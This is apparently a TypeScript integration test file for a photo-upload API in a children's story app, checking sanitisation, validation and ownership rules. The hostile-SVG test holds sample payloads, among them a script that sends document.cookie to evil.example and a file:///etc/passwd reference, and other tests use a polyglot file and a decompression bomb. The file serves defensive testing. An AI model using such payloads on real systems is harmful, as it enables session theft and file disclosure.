/**
 * /v1/me/characters over real HTTP:
 * every accepted photo type made here with sharp, hostile files, field rules, ownership.
 */
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { authHeader, createTestUser, type TestUser } from '../../helpers/auth.ts';
import {
  BLUE,
  RED,
  bandColour,
  fakeJpegHtml,
  makeGif,
  makeJpeg,
  makePng,
  makePngBomb,
  makeSvg,
  makeWebp,
  near,
  polyglotJpegHtml,
  withExifGps,
} from '../../helpers/make-images.ts';
import { startTestApp, type TestApp } from '../../helpers/test-app.ts';
import { countRows, del, getJson, postForm, storedFiles, type UploadFile } from './helpers.ts';

const PHOTO_LIST = 'Unsupported file format. Please use one of: jpeg, jpg, png, webp, svg';

let app: TestApp;
let alice: TestUser;
let bob: TestUser;

beforeAll(async () => {
  app = await startTestApp({ IMAGE_SAMPLE_CAPACITY: '50' });
  [alice, bob] = await Promise.all([createTestUser(app), createTestUser(app)]);
});
afterAll(async () => {
  await app?.close();
});

const upload = (user: TestUser, fields: Record<string, string>, file?: UploadFile) => postForm(app, user, '/v1/me/characters', fields, file);

async function fetchPhoto(url: string): Promise<{ type: string; bytes: Buffer }> {
  const res = await fetch(new URL(url, app.url));
  expect(res.status).toBe(200);
  return { type: res.headers.get('content-type') ?? '', bytes: Buffer.from(await res.arrayBuffer()) };
}

describe('uploading a character photo', () => {
  const makers: [string, () => Promise<Buffer>, string][] = [
    ['jpeg', () => makeJpeg(640, 800), 'image/jpeg'],
    ['png', () => makePng(800, 600), 'image/png'],
    ['webp', () => makeWebp(500, 500), 'image/webp'],
    ['svg', async () => Buffer.from(makeSvg(600, 600)), 'image/svg+xml'],
  ];

  it.each(makers)('accepts a real %s, stores it re-encoded as WebP and lists it with a signed URL', async (ext, make, mime) => {
    const res = await upload(
      alice,
      { name: `Mia ${ext}`, kind: 'human', gender: 'female', age: '5', description: 'Curly hair, loves dinosaurs' },
      { bytes: await make(), name: `mia.${ext}`, type: mime },
    );
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ name: `Mia ${ext}`, kind: 'human', gender: 'female', age: 5, description: 'Curly hair, loves dinosaurs' });
    expect(typeof res.body.id).toBe('number');
    expect(res.body.photo_url_expires_at).toBeGreaterThan(Date.now() / 1000);
    const photo = await fetchPhoto(res.body.signed_photo_url);
    // An SVG is never served as SVG: what comes back is our raster, top red and bottom blue.
    expect(photo.type).toBe('image/webp');
    const meta = await sharp(photo.bytes).metadata();
    expect(meta.format).toBe('webp');
    expect(Math.min(meta.width!, meta.height!)).toBeGreaterThanOrEqual(500);
    expect(near(await bandColour(photo.bytes, 0.1, 0.3), RED)).toBe(true);
    expect(near(await bandColour(photo.bytes, 0.7, 0.9), BLUE)).toBe(true);
  });

  it('strips the EXIF GPS position of a phone photo', async () => {
    const jpeg = await withExifGps(await makeJpeg(600, 600));
    expect((await sharp(jpeg).metadata()).exif).toBeDefined();
    const res = await upload(alice, { name: 'Geo', kind: 'human' }, { bytes: jpeg, name: 'IMG_0001.jpg', type: 'image/jpeg' });
    expect(res.status).toBe(201);
    const photo = await fetchPhoto(res.body.signed_photo_url);
    const meta = await sharp(photo.bytes).metadata();
    expect(meta.exif).toBeUndefined();
    expect(photo.bytes.includes(Buffer.from('TestCam'))).toBe(false);
  });

  it('keeps only pixels of a JPEG+HTML polyglot', async () => {
    const res = await upload(alice, { name: 'Poly', kind: 'object' }, { bytes: await polyglotJpegHtml(), name: 'poly.jpg', type: 'image/jpeg' });
    expect(res.status).toBe(201);
    const photo = await fetchPhoto(res.body.signed_photo_url);
    expect(photo.bytes.includes(Buffer.from('<script'))).toBe(false);
  });

  it('sanitizes hostile SVGs: script, foreignObject, event handlers and external references never survive', async () => {
    const hostile = [
      '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
      '<foreignObject width="600" height="600"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"/></body></foreignObject>',
      '<rect width="600" height="600" fill="rgb(0,200,0)" onload="alert(1)" opacity="0"/>',
      '<image href="https://evil.example/x.png" width="600" height="600"/><image xlink:href="file:///etc/passwd" width="600" height="600"/>',
    ];
    for (const extra of hostile) {
      const res = await upload(
        alice,
        { name: 'Drawn', kind: 'object' },
        { bytes: Buffer.from(makeSvg(600, 600, extra)), name: 'drawing.svg', type: 'image/svg+xml' },
      );
      expect(res.status, extra).toBe(201);
      const photo = await fetchPhoto(res.body.signed_photo_url);
      expect(photo.type).toBe('image/webp');
      for (const marker of ['<svg', 'script', 'evil.example', 'foreignObject', 'onload']) expect(photo.bytes.includes(Buffer.from(marker))).toBe(false);
      // Nothing external was painted over the drawing.
      expect(near(await bandColour(photo.bytes, 0.1, 0.3), RED)).toBe(true);
    }
  });

  it('omits empty gender, age and description, keeps age 0, and accepts a character without a photo', async () => {
    const res = await upload(alice, { name: '  Baby Leo  ', kind: 'human', gender: '', age: '0', description: '' });
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ name: 'Baby Leo', gender: null, age: 0, description: null, signed_photo_url: null, photo_url_expires_at: null });
  });
});

describe('refusing what is not an acceptable photo (nothing is stored)', () => {
  let before: { rows: number; files: number };
  beforeAll(async () => {
    before = { rows: await countRows(app, 'characters', bob.userId), files: storedFiles(app, 'characters', bob.userId).length };
  });

  const hostile: [string, () => Promise<UploadFile>, number, string | RegExp][] = [
    ['a GIF named .jpg (wrong magic bytes)', async () => ({ bytes: await makeGif(600, 600), name: 'kid.jpg', type: 'image/jpeg' }), 415, PHOTO_LIST],
    ['HTML behind JPEG magic bytes (a polyglot with no image)', async () => ({ bytes: fakeJpegHtml(), name: 'kid.jpg', type: 'image/jpeg' }), 415, PHOTO_LIST],
    ['a text file named .png', async () => ({ bytes: Buffer.from('hello, not a picture'), name: 'kid.png', type: 'image/png' }), 415, PHOTO_LIST],
    ['0 bytes', async () => ({ bytes: Buffer.alloc(0), name: 'empty.jpg', type: 'image/jpeg' }), 422, 'The file is empty. Please choose another file.'],
    [
      'a truncated JPEG',
      async () => {
        const full = await makeJpeg(800, 800);
        return { bytes: full.subarray(0, Math.floor(full.length / 2)), name: 'cut.jpg', type: 'image/jpeg' };
      },
      415,
      PHOTO_LIST,
    ],
    [
      'a 499x800 photo',
      async () => ({ bytes: await makePng(499, 800), name: 'small.png', type: 'image/png' }),
      422,
      'The photo is too small (499x800). Please use a photo of at least 500 by 500 pixels.',
    ],
    [
      'a decompression bomb (400 megapixels in a small PNG)',
      async () => ({ bytes: makePngBomb(), name: 'bomb.png', type: 'image/png' }),
      413,
      /^The photo is too large \(20000x20000 pixels\)/,
    ],
    [
      'an SVG whose root is not <svg>',
      async () => ({ bytes: Buffer.from('<?xml version="1.0"?><html><svg></svg><script>x</script></html>'), name: 'x.svg', type: 'image/svg+xml' }),
      415,
      PHOTO_LIST,
    ],
  ];

  it.each(hostile)('%s', async (_label, make, status, message) => {
    const res = await upload(bob, { name: 'Hostile', kind: 'human' }, await make());
    expect(res.status).toBe(status);
    if (typeof message === 'string') expect(res.body.message).toBe(message);
    else expect(res.body.message).toMatch(message);
    expect(await countRows(app, 'characters', bob.userId)).toBe(before.rows);
    expect(storedFiles(app, 'characters', bob.userId)).toHaveLength(before.files);
  });

  it('refuses 11 MB with the size limit message, enforcing the cap while streaming', async () => {
    const big = Buffer.concat([await makeJpeg(600, 600), Buffer.alloc(11 * 1024 * 1024 - 20_000, 7)]);
    // A body with no Content-Length (chunked), so the server must count while reading.
    const form = new FormData();
    form.append('file', new Blob([big], { type: 'image/jpeg' }), 'huge.jpg');
    form.append('name', 'Huge');
    form.append('kind', 'human');
    const encoded = new Response(form);
    const res = await app.fetch('/v1/me/characters', {
      method: 'POST',
      headers: { Authorization: `Bearer ${bob.accessToken}`, 'Content-Type': encoded.headers.get('content-type')! },
      body: encoded.body,
      duplex: 'half',
    } as RequestInit);
    expect(res.status).toBe(413);
    expect((await res.json()).message).toBe('File size exceeds 10MB limit.');
    // And with a Content-Length, refused before reading.
    const sized = await upload(bob, { name: 'Huge', kind: 'human' }, { bytes: big, name: 'huge.jpg', type: 'image/jpeg' });
    expect(sized.status).toBe(413);
    expect(sized.body.message).toBe('File size exceeds 10MB limit.');
    expect(await countRows(app, 'characters', bob.userId)).toBe(before.rows);
  });

  it.each([
    [{ kind: 'human' }, 'Name required'],
    [{ name: '   ', kind: 'human' }, 'Name required'],
    [{ name: 'x'.repeat(51), kind: 'human' }, 'Max 50 chars'],
    [{ name: 'Rex', kind: 'dragon' }, 'Please choose a kind: human, animal or object.'],
    [{ name: 'Rex', kind: 'animal', gender: 'robot' }, 'Gender must be male, female or other.'],
    [{ name: 'Rex', kind: 'animal', age: '151' }, 'Age must be a whole number from 0 to 150.'],
    [{ name: 'Rex', kind: 'animal', age: '-1' }, 'Age must be a whole number from 0 to 150.'],
    [{ name: 'Rex', kind: 'animal', description: 'd'.repeat(201) }, 'Description must be at most 200 characters.'],
  ])('validates the fields: %j', async (fields, message) => {
    const res = await upload(bob, fields as Record<string, string>, { bytes: await makeJpeg(600, 600), name: 'ok.jpg', type: 'image/jpeg' });
    expect(res.status).toBe(422);
    expect(res.body.message).toBe(message);
    expect(storedFiles(app, 'characters', bob.userId)).toHaveLength(before.files);
  });
});

describe('the description is screened at upload', () => {
  it("refuses an unsafe description with 422 in the parent's language and stores nothing; a gentle one is kept", async () => {
    const erin = await createTestUser(app);
    const photo = { bytes: await makeJpeg(600, 600), name: 'e.jpg', type: 'image/jpeg' };
    for (const description of ['loves guns and wants to kill the neighbours dog', 'cheveux bruns, porte un couteau pour tuer les méchants']) {
      const res = await upload(erin, { name: 'Erin', kind: 'human', description }, photo);
      expect(res.status).toBe(422);
      expect(res.body.message).toBe("This description can't be used for a children's bedtime story. Please change the description and try again.");
    }
    const german = await app.fetch('/v1/me/characters', {
      method: 'POST',
      headers: { ...authHeader(erin), 'accept-language': 'de' },
      body: (() => {
        const form = new FormData();
        form.append('name', 'Erin');
        form.append('kind', 'human');
        form.append('description', 'trägt immer ein Messer und will alle töten');
        return form;
      })(),
    });
    expect(german.status).toBe(422);
    expect((await german.json()).message).toBe(
      'Diese Beschreibung passt nicht zu einer Gutenachtgeschichte für Kinder. Bitte ändere die Beschreibung und versuche es noch einmal.',
    );
    expect(storedFiles(app, 'characters', erin.userId)).toHaveLength(0);
    expect((await getJson(app, erin, '/v1/me/characters')).body).toEqual([]);

    const kept = await upload(erin, { name: 'Erin', kind: 'human', description: 'Loves her red hat, rainy puddles and her puppy Max.' }, photo);
    expect(kept.status).toBe(201);
  });
});

describe('listing and deleting', () => {
  it('lists only the user’s own characters, newest first', async () => {
    const carol = await createTestUser(app);
    for (const name of ['First', 'Second', 'Third']) expect((await upload(carol, { name, kind: 'animal' })).status).toBe(201);
    const list = await getJson(app, carol, '/v1/me/characters');
    expect(list.status).toBe(200);
    expect(list.body.map((c: { name: string }) => c.name)).toEqual(['Third', 'Second', 'First']);
    expect(Object.keys(list.body[0]).sort()).toEqual([
      'age',
      'boundaries',
      'created_at',
      'description',
      'gender',
      'id',
      'kind',
      'look',
      'look_status',
      'name',
      'photo_url_expires_at',
      'signed_photo_url',
    ]);
  });

  it('deletes with 204 and removes the stored photo; a second delete and another user’s delete are 404', async () => {
    const dave = await createTestUser(app);
    const created = await upload(dave, { name: 'Dave Jr', kind: 'human' }, { bytes: await makeJpeg(600, 600), name: 'd.jpg', type: 'image/jpeg' });
    expect(storedFiles(app, 'characters', dave.userId)).toHaveLength(1);
    const url = created.body.signed_photo_url as string;

    expect((await del(app, alice, `/v1/me/characters/${created.body.id}`)).status).toBe(404);
    expect(storedFiles(app, 'characters', dave.userId)).toHaveLength(1);

    const gone = await del(app, dave, `/v1/me/characters/${created.body.id}`);
    expect(gone.status).toBe(204);
    expect(storedFiles(app, 'characters', dave.userId)).toHaveLength(0);
    expect((await fetch(new URL(url, app.url))).status).toBe(404);
    expect((await getJson(app, dave, '/v1/me/characters')).body).toEqual([]);
    expect((await del(app, dave, `/v1/me/characters/${created.body.id}`)).status).toBe(404);
    expect((await del(app, dave, '/v1/me/characters/not-a-number')).status).toBe(404);
  });

  it('requires sign-in', async () => {
    expect((await app.fetch('/v1/me/characters')).status).toBe(401);
    const res = await postForm(app, null, '/v1/me/characters', { name: 'X', kind: 'human' });
    expect(res.status).toBe(401);
  });
});
